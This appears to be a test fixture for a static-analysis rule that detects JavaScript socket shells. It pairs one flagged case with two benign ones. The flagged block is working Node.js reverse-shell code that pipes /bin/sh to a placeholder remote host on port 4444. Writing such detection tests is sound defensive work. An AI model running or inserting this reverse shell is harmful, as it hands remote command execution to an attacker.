const net = require("net");
const cp = require("child_process");
// ruleid: js-socket-shell
const sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "203.0.113.7", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
});
// ===== block =====
const { spawn } = require("child_process");
// ok: js-socket-shell
const ls = spawn("sh", ["-c", "ls -la"]);
ls.stdout.on("data", (d) => console.log(d.toString()));
// ===== block =====
const net = require("net");
// ok: js-socket-shell
const sock = net.connect(6379, "127.0.0.1", () => sock.write("PING\r\n"));
